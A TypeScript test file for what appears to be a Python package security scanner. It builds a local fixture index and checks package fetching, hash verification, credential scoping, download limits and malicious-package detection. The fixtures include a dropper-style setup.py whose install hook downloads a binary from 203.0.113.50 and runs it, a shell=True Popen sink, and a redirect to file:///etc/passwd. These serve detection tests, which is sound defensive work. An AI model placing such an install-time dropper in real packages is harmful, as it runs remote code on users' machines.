/**
 * `pypi:NAME[==VERSION]` targets fetched from a simple index: a local index on 127.0.0.1
 * (node:http, started here) serves fixture packages built here — wheels (fflate) and sdists
 * (modern-tar + gzip) — as PEP 691 JSON, PEP 503 HTML, or whichever the request's Accept
 * asks for. Each test points TMPDIR at a private folder so "the downloads are gone" is
 * checked on the file system.
 */
import { createHash } from 'node:crypto';
import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
import { spawn } from 'node:child_process';
import { mkdirSync, mkdtempSync, readdirSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { gzipSync } from 'node:zlib';
import type { AddressInfo } from 'node:net';
import { strToU8, zipSync } from 'fflate';
import { packTar } from 'modern-tar';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { scan } from '../../src/pipeline/scan.js';
import { parseIndexTarget, resolveIndexTargets } from '../../src/pipeline/discover/index-fetch.js';
import { chooseRelease, distributionOf, parseIndexPage } from '../../src/pipeline/discover/index-page.js';
import { trackedTempDirs } from '../../src/pipeline/discover/temp-dirs.js';

const ROOT = path.resolve(__dirname, '../..');
const BIN = path.join(ROOT, 'bin/krait.js');

const VULNERABLE = 'import subprocess\n\n\ndef run(cmd):\n    return subprocess.Popen(cmd, shell=True)\n';
const DROPPER_SETUP = `import os
import subprocess
import tempfile
import urllib.request
from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        target = os.path.join(tempfile.gettempdir(), ".cache-helper")
        urllib.request.urlretrieve("http://203.0.113.50/helper.bin", target)
        os.chmod(target, 0o755)
        subprocess.Popen([target])


setup(name="evilpkg", version="0.1", packages=["evilpkg"], cmdclass={"install": PostInstall})
`;

/** One file of the fixture index. */
interface Dist {
  filename: string;
  bytes: Uint8Array;
  yanked?: string | true;
  /** Hash the index announces, when not the file's own (to test a mismatch); null: none announced. */
  sha256?: string | null;
}

function sha256(b: Uint8Array): string {
  return createHash('sha256').update(b).digest('hex');
}

/** A pure-Python wheel holding `<mod>/__init__.py` with `code`. */
function wheel(name: string, version: string, code: string, tag = 'py3-none-any'): Dist {
  const mod = name.replace(/-/g, '_');
  const info = `${mod}-${version}.dist-info`;
  const bytes = zipSync({
    [`${mod}/__init__.py`]: strToU8(code),
    [`${info}/METADATA`]: strToU8(`Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`),
    [`${info}/WHEEL`]: strToU8(`Wheel-Version: 1.0\nRoot-Is-Purelib: true\nTag: ${tag}\n`),
    [`${info}/RECORD`]: strToU8(''),
  });
  return { filename: `${mod}-${version}-${tag}.whl`, bytes };
}

/** An sdist `name-version.tar.gz` with PKG-INFO, setup.py and `<mod>/__init__.py`. */
async function sdist(name: string, version: string, code: string, setupPy = `from setuptools import setup\n\nsetup(name="${name}", version="${version}")\n`): Promise<Dist> {
  const mod = name.replace(/-/g, '_');
  const top = `${mod}-${version}`;
  const files: [string, string][] = [
    [`${top}/PKG-INFO`, `Metadata-Version: 2.1\nName: ${name}\nVersion: ${version}\n`],
    [`${top}/setup.py`, setupPy],
    [`${top}/${mod}/__init__.py`, code],
  ];
  const tar = await packTar(files.map(([n, body]) => ({ header: { name: n, size: Buffer.byteLength(body), type: 'file' as const }, body })));
  return { filename: `${top}.tar.gz`, bytes: gzipSync(tar) };
}

type PageForm = 'json' | 'html' | 'negotiate';

/** A local simple index: `/simple/<name>/` and `/files/<filename>`. */
class FixtureIndex {
  readonly requests: { url: string; accept: string; authorization?: string }[] = [];
  form: PageForm = 'negotiate';
  /** Where file links point (another origin to test credentials); default this server. */
  fileBase?: string;
  /** Extra routes: path → handler. */
  readonly routes = new Map<string, (req: IncomingMessage, res: ServerResponse) => void>();
  private server!: Server;
  private readonly projects = new Map<string, Dist[]>();

  add(project: string, ...dists: Dist[]): this {
    this.projects.set(project, [...(this.projects.get(project) ?? []), ...dists]);
    return this;
  }

  get url(): string {
    return `http://127.0.0.1:${(this.server.address() as AddressInfo).port}`;
  }

  async start(): Promise<this> {
    this.server = createServer((req, res) => this.handle(req, res));
    await new Promise<void>((resolve) => this.server.listen(0, '127.0.0.1', resolve));
    return this;
  }

  async stop(): Promise<void> {
    this.server.closeAllConnections();
    await new Promise<void>((resolve) => this.server.close(() => resolve()));
  }

  private handle(req: IncomingMessage, res: ServerResponse): void {
    const accept = String(req.headers.accept ?? '');
    this.requests.push({ url: req.url ?? '', accept, ...(req.headers.authorization ? { authorization: req.headers.authorization } : {}) });
    const route = this.routes.get(req.url ?? '');
    if (route) return route(req, res);
    const page = /^\/simple\/([^/]+)\/$/.exec(req.url ?? '');
    if (page) {
      const dists = this.projects.get(page[1]);
      if (!dists) return void res.writeHead(404).end('not found');
      const json = this.form === 'json' || (this.form === 'negotiate' && accept.startsWith('application/vnd.pypi.simple.v1+json'));
      const files = dists.map((d) => ({
        filename: d.filename,
        url: `${this.fileBase ?? ''}/files/${d.filename}`,
        hashes: d.sha256 === null ? {} : { sha256: d.sha256 ?? sha256(d.bytes) },
        ...(d.yanked !== undefined ? { yanked: d.yanked } : {}),
      }));
      if (json) {
        res.writeHead(200, { 'content-type': 'application/vnd.pypi.simple.v1+json' });
        return void res.end(JSON.stringify({ meta: { 'api-version': '1.1' }, name: page[1], files }));
      }
      const anchors = files.map((f) => {
        const hash = f.hashes.sha256 ? `#sha256=${f.hashes.sha256}` : '';
        const yanked = f.yanked === undefined ? '' : f.yanked === true ? ' data-yanked' : ` data-yanked="${f.yanked}"`;
        // Relative links, as PyPI's HTML pages have them, and an entity in the URL.
        return `<a href="../../files/${f.filename}?x=1&amp;y=2${hash}"${yanked}>${f.filename}</a><br/>`;
      });
      res.writeHead(200, { 'content-type': 'text/html; charset=utf-8' });
      return void res.end(`<!DOCTYPE html><html><body><h1>Links for ${page[1]}</h1>${anchors.join('\n')}</body></html>`);
    }
    const file = /^\/files\/([^/?]+)/.exec(req.url ?? '');
    const dist = file && [...this.projects.values()].flat().find((d) => d.filename === file[1]);
    if (!dist) return void res.writeHead(404).end();
    res.writeHead(200, { 'content-type': 'application/octet-stream', 'content-length': dist.bytes.length });
    res.end(Buffer.from(dist.bytes));
  }
}

let base: string;
let savedTmp: string | undefined;
let index: FixtureIndex;

beforeEach(async () => {
  base = mkdtempSync(path.join(tmpdir(), 'krait-index-test-'));
  mkdirSync(path.join(base, 'tmp'));
  mkdirSync(path.join(base, 'work'));
  savedTmp = process.env.TMPDIR;
  process.env.TMPDIR = path.join(base, 'tmp');
  index = await new FixtureIndex().start();
});

afterEach(async () => {
  await index.stop();
  if (savedTmp === undefined) delete process.env.TMPDIR;
  else process.env.TMPDIR = savedTmp;
  rmSync(base, { recursive: true, force: true });
});

const work = () => path.join(base, 'work');

function scanIndex(targets: string[], extra: Record<string, unknown> = {}) {
  return scan({ targets, cwd: work(), jobs: 1, config: false, indexUrl: `${index.url}/simple/`, ...extra });
}

/** The temporary downloads are gone: nothing in the private TMPDIR, nothing tracked. */
function expectNoDownloadsLeft(): void {
  expect(readdirSync(path.join(base, 'tmp'))).toEqual([]);
  expect(trackedTempDirs().filter((d) => d.includes('krait-pypi-'))).toEqual([]);
}

/** demo: 1.0 and 1.1 (sdist + pure wheel), 1.2 yanked, 2.0rc1 a pre-release. */
async function demoProject(): Promise<void> {
  index.add(
    'demo',
    await sdist('demo', '1.0', VULNERABLE),
    wheel('demo', '1.0', VULNERABLE),
    await sdist('demo', '1.1', VULNERABLE),
    wheel('demo', '1.1', VULNERABLE),
    wheel('demo', '1.1', VULNERABLE, 'cp311-cp311-manylinux_2_17_x86_64'),
    { ...(await sdist('demo', '1.2', VULNERABLE)), yanked: 'broken build' },
    await sdist('demo', '2.0rc1', VULNERABLE),
  );
}

describe('pypi: targets from a local index', () => {
  it('fetches the latest non-yanked final release: its sdist and pure wheel, checked, audited as archives, then removed', async () => {
    await demoProject();
    const report = await scanIndex(['pypi:Demo']);
    expect(report.targets).toEqual(['pypi:Demo']);
    expect(report.fetched).toHaveLength(1);
    const f = report.fetched![0];
    expect([f.name, f.version, f.format, f.yanked]).toEqual(['demo', '1.1', 'json', undefined]);
    expect(f.files.map((x) => [x.filename, x.kind, x.path])).toEqual([
      ['demo-1.1.tar.gz', 'sdist', 'pypi:demo==1.1/demo-1.1.tar.gz'],
      ['demo-1.1-py3-none-any.whl', 'wheel', 'pypi:demo==1.1/demo-1.1-py3-none-any.whl'],
    ]);
    for (const x of f.files) expect(x.sha256).toMatch(/^[0-9a-f]{64}$/);
    const hits = report.findings.filter((x) => x.ruleId === 'B602').map((x) => x.location.path).sort();
    expect(hits).toEqual(['pypi:demo==1.1/demo-1.1-py3-none-any.whl!/demo/__init__.py', 'pypi:demo==1.1/demo-1.1.tar.gz!/demo-1.1/demo/__init__.py']);
    // PEP 691 JSON asked for first; the platform wheel is not downloaded.
    expect(index.requests[0].accept.startsWith('application/vnd.pypi.simple.v1+json')).toBe(true);
    expect(index.requests.map((r) => r.url)).toEqual(['/simple/demo/', '/files/demo-1.1.tar.gz', '/files/demo-1.1-py3-none-any.whl']);
    expectNoDownloadsLeft();
  });

  it('honours ==VERSION (PEP 440 equality), and fetches a yanked release only when pinned, saying so', async () => {
    await demoProject();
    const old = await scanIndex(['pypi:demo==1.0.0']);
    expect([old.fetched![0].version, old.fetched![0].files.map((x) => x.filename)]).toEqual(['1.0', ['demo-1.0.tar.gz', 'demo-1.0-py3-none-any.whl']]);
    const yanked = await scanIndex(['pypi:demo==1.2']);
    expect([yanked.fetched![0].version, yanked.fetched![0].yanked]).toEqual(['1.2', 'broken build']);
    await expect(scanIndex(['pypi:demo==9.9'])).rejects.toThrow(/no release 9\.9 of demo \(latest: 1\.1\)/);
    expectNoDownloadsLeft();
  });

  it('refuses a download that does not match the index sha256 (nothing audited, nothing left)', async () => {
    const good = await sdist('badhash', '1.0', VULNERABLE);
    index.add('badhash', { ...good, sha256: sha256(strToU8('something else')) });
    await expect(scanIndex(['pypi:badhash'])).rejects.toThrow(/badhash-1\.0\.tar\.gz does not match the index's sha256 .*refused/);
    expectNoDownloadsLeft();
    // No hash at all: refused too.
    index.add('nohash', { ...(await sdist('nohash', '1.0', VULNERABLE)), sha256: null });
    await expect(scanIndex(['pypi:nohash'])).rejects.toThrow(/gives no sha256 for nohash-1\.0\.tar\.gz/);
    expectNoDownloadsLeft();
  });

  it('reads both forms: PEP 691 JSON and PEP 503 HTML (relative links, entities, data-yanked)', async () => {
    await demoProject();
    for (const form of ['json', 'html'] as const) {
      index.form = form;
      const report = await scanIndex(['pypi:demo']);
      expect([form, report.fetched![0].format, report.fetched![0].version]).toEqual([form, form, '1.1']);
      expect(report.findings.filter((x) => x.ruleId === 'B602')).toHaveLength(2);
    }
    // The HTML links carried a query with an entity: decoded, and the file still fetched.
    expect(index.requests.filter((r) => r.url.startsWith('/files/demo-1.1.tar.gz?x=1&y=2'))).toHaveLength(1);
  });

  it('makes no request without --online or --index-url, and says how to allow it', async () => {
    await demoProject();
    await expect(scan({ targets: ['pypi:demo'], cwd: work(), jobs: 1, config: false })).rejects.toThrow(
      /pypi:demo is a package on an index and krait reads no network unless asked: add --online .* or --index-url URL/,
    );
    expect(index.requests).toEqual([]);
  });

  it('scans a local path named pypi:… as a path, without the network', async () => {
    await demoProject();
    mkdirSync(path.join(work(), 'pypi:demo'));
    writeFileSync(path.join(work(), 'pypi:demo', 'local.py'), VULNERABLE);
    const report = await scanIndex(['pypi:demo']);
    expect(index.requests).toEqual([]);
    expect(report.fetched).toBeUndefined();
    expect(report.findings.filter((x) => x.ruleId === 'B602').map((x) => x.location.path)).toEqual(['pypi:demo/local.py']);
  });

  it('gives a malicious-style package from the index its KR60x findings and a high verdict', async () => {
    index.add('evilpkg', await sdist('evilpkg', '0.1', 'VERSION = "0.1"\n', DROPPER_SETUP));
    const report = await scanIndex(['pypi:evilpkg']);
    const kr6 = report.findings.filter((x) => /^KR6\d\d$/.test(x.ruleId));
    expect(kr6.length).toBeGreaterThan(0);
    expect(kr6.every((x) => x.location.path === 'pypi:evilpkg==0.1/evilpkg-0.1.tar.gz!/evilpkg-0.1/setup.py')).toBe(true);
    expect(kr6.some((x) => x.severity === 'high' || x.severity === 'critical')).toBe(true);
    const verdict = report.packages!.find((p) => p.name === 'evilpkg');
    expect(verdict?.version).toBe('0.1');
    expect(['high', 'critical']).toContain(verdict?.risk);
    expectNoDownloadsLeft();
  });
});

describe('index fetch limits', () => {
  it('sends credentials from the index URL to the index only, never to another origin', async () => {
    const files = await new FixtureIndex().start();
    try {
      const d = await sdist('private', '1.0', VULNERABLE);
      index.add('private', d);
      files.add('private', d);
      index.fileBase = files.url;
      const got = await resolveIndexTargets(['pypi:private'], work(), { indexUrl: `${index.url.replace('//', '//me:s%40cret@')}/simple/` });
      got.cleanup();
      expect(index.requests[0].authorization).toBe(`Basic ${Buffer.from('me:s@cret').toString('base64')}`);
      expect(files.requests.map((r) => [r.url, r.authorization])).toEqual([['/files/private-1.0.tar.gz', undefined]]);
      expect(got.packages[0].index).toBe(`${index.url}/simple/private/`);
    } finally {
      await files.stop();
    }
  });

  it('caps file size and redirects, and follows only http(s)', async () => {
    await demoProject();
    const at = (p: string) => resolveIndexTargets([p], work(), { indexUrl: `${index.url}/simple/`, limits: { fileBytes: 64 } });
    await expect(at('pypi:demo')).rejects.toThrow(/demo-1\.1\.tar\.gz is \d+ bytes, over the limit of 64/);
    // No Content-Length (chunked): counted as it arrives.
    index.add('chunky', await sdist('chunky', '1.0', VULNERABLE));
    index.routes.set('/files/chunky-1.0.tar.gz', (_req, res) => {
      res.writeHead(200, { 'content-type': 'application/octet-stream' });
      for (let i = 0; i < 10; i++) res.write(Buffer.alloc(50));
      res.end();
    });
    await expect(at('pypi:chunky')).rejects.toThrow(/sent more than 64 bytes, the limit \(download stopped\)/);
    let hops = 0;
    index.routes.set('/simple/loop/', (_req, res) => void res.writeHead(302, { location: `/simple/loop/?${++hops}` }).end());
    for (let i = 0; i < 20; i++) index.routes.set(`/simple/loop/?${i}`, (_req, res) => void res.writeHead(302, { location: `/simple/loop/?${++hops}` }).end());
    await expect(at('pypi:loop')).rejects.toThrow(/more than 5 redirects/);
    index.routes.set('/simple/elsewhere/', (_req, res) => void res.writeHead(301, { location: 'file:///etc/passwd' }).end());
    await expect(at('pypi:elsewhere')).rejects.toThrow(/refused file: URL/);
    await expect(at('pypi:missing')).rejects.toThrow(/has no project missing \(HTTP 404\)/);
    // A server that never answers: the timeout ends the wait.
    index.routes.set('/simple/silent/', () => undefined);
    const t0 = Date.now();
    await expect(resolveIndexTargets(['pypi:silent'], work(), { indexUrl: `${index.url}/simple/`, limits: { timeoutMs: 300 } })).rejects.toThrow(/did not answer within 300 ms/);
    expect(Date.now() - t0).toBeLessThan(3000);
    expectNoDownloadsLeft();
  });

  it('reads target forms and refuses others', () => {
    expect(parseIndexTarget('pypi:Foo_Bar.baz')).toEqual({ name: 'foo-bar-baz' });
    expect(parseIndexTarget('pypi:foo==1.0rc1')).toEqual({ name: 'foo', version: '1.0rc1' });
    expect(parseIndexTarget('src/app')).toBeUndefined();
    for (const bad of ['pypi:', 'pypi:foo>=1', 'pypi:foo[x]', 'pypi:foo==bar baz', 'pypi:../x', 'pypi:foo==not-a-version', 'pypi:https://x/y']) {
      expect(() => parseIndexTarget(bad), bad).toThrow(/write pypi:NAME or pypi:NAME==VERSION/);
    }
  });

  it('refuses JSON that is not a PEP 691 version 1 page, and resolves HTML links against <base href>', () => {
    const at = new URL('http://x/simple/demo/');
    expect(() => parseIndexPage('{}', 'application/vnd.pypi.simple.v1+json', at)).toThrow(/not a PEP 691 project page/);
    expect(() => parseIndexPage('{"meta":{"api-version":"2.0"},"files":[]}', 'application/vnd.pypi.simple.v1+json', at)).toThrow(/simple API version 2\.0; krait reads version 1/);
    expect(() => parseIndexPage('<html>', 'application/vnd.pypi.simple.v1+json', at)).toThrow(/not valid JSON/);
    const html = parseIndexPage('<base href="https://files.example/p/"><a href="demo-1.0.tar.gz#sha256=AA" data-yanked="old">demo-1.0.tar.gz</a>', 'text/html', at);
    expect(html.files).toEqual([{ filename: 'demo-1.0.tar.gz', url: 'https://files.example/p/demo-1.0.tar.gz', hashes: { sha256: 'aa' }, yanked: 'old' }]);
  });

  it('fetches a release once when two targets name it', async () => {
    await demoProject();
    const report = await scanIndex(['pypi:demo', 'pypi:demo==1.1']);
    expect(report.fetched!.map((p) => p.target)).toEqual(['pypi:demo']);
    expect(index.requests.filter((r) => r.url.startsWith('/files/'))).toHaveLength(2);
    expect(report.findings.filter((x) => x.ruleId === 'B602')).toHaveLength(2);
  });

  it('tells sdists and wheels of the project by file name, and pure wheels', () => {
    expect(distributionOf('python-dateutil-2.9.0.tar.gz', 'python-dateutil')).toEqual({ kind: 'sdist', version: '2.9.0', pure: false });
    expect(distributionOf('python_dateutil-2.9.0-py2.py3-none-any.whl', 'python-dateutil')).toEqual({ kind: 'wheel', version: '2.9.0', pure: true });
    expect(distributionOf('numpy-2.0.0-cp312-cp312-manylinux_2_17_x86_64.whl', 'numpy')?.pure).toBe(false);
    expect(distributionOf('demo-1.0-1-py3-none-any.whl', 'demo')).toEqual({ kind: 'wheel', version: '1.0', pure: true });
    expect(distributionOf('demo-extra-1.0.tar.gz', 'demo')).toBeUndefined();
    expect(distributionOf('demo-1.0.exe', 'demo')).toBeUndefined();
    const page = parseIndexPage('<a href="/f/demo-1.0-cp39-cp39-win32.whl#sha256=AB">demo-1.0-cp39-cp39-win32.whl</a>', 'text/html', new URL('http://x/simple/demo/'));
    expect(() => chooseRelease(page.files, 'demo')).toThrow(/neither an sdist nor a pure-Python wheel/);
  });
});

describe('the CLI', () => {
  /** Run bin/krait.js without blocking this process (the index answers from here). */
  function krait(args: string[]): Promise<{ status: number | null; stdout: string; stderr: string }> {
    return new Promise((resolve) => {
      const p = spawn(process.execPath, [BIN, ...args], { cwd: work(), env: { ...process.env, NO_COLOR: '1' } });
      let stdout = '';
      let stderr = '';
      p.stdout.on('data', (c: Buffer) => (stdout += c.toString()));
      p.stderr.on('data', (c: Buffer) => (stderr += c.toString()));
      p.on('close', (status) => resolve({ status, stdout, stderr }));
    });
  }

  it('exits 2 with one line without --online/--index-url, and with a hash mismatch; scans with --index-url', async () => {
    await demoProject();
    const off = await krait(['scan', 'pypi:demo']);
    expect([off.status, off.stderr.trim().split('\n').length]).toEqual([2, 1]);
    expect(off.stderr).toMatch(/add --online .* or --index-url URL/);
    expect(index.requests).toEqual([]);

    const ok = await krait(['scan', '--index-url', `${index.url}/simple/`, '-f', 'json', 'pypi:demo']);
    expect(ok.status).toBe(1);
    const report = JSON.parse(ok.stdout) as { fetched: { version: string }[] };
    expect(report.fetched[0].version).toBe('1.1');
    // Other commands that take paths take pypi: targets too.
    const secrets = await krait(['secrets', '--index-url', `${index.url}/simple/`, '-f', 'json', 'pypi:demo==1.0']);
    expect([secrets.status, (JSON.parse(secrets.stdout) as { fetched: { version: string }[] }).fetched[0].version]).toEqual([0, '1.0']);
    const text = await krait(['scan', '--index-url', `${index.url}/simple/`, 'pypi:demo==1.2']);
    expect(text.stdout).toContain(`Fetched: demo 1.2 from ${index.url}/simple/demo/ (PEP 691 JSON; yanked: broken build) — demo-1.2.tar.gz (sha256 checked)`);

    index.add('badhash', { ...(await sdist('badhash', '1.0', VULNERABLE)), sha256: '0'.repeat(64) });
    const bad = await krait(['scan', '--index-url', `${index.url}/simple/`, 'pypi:badhash']);
    expect([bad.status, bad.stderr.trim().split('\n').length]).toEqual([2, 1]);
    expect(bad.stderr).toMatch(/does not match the index's sha256/);
    expectNoDownloadsLeft();
  }, 180_000);
});
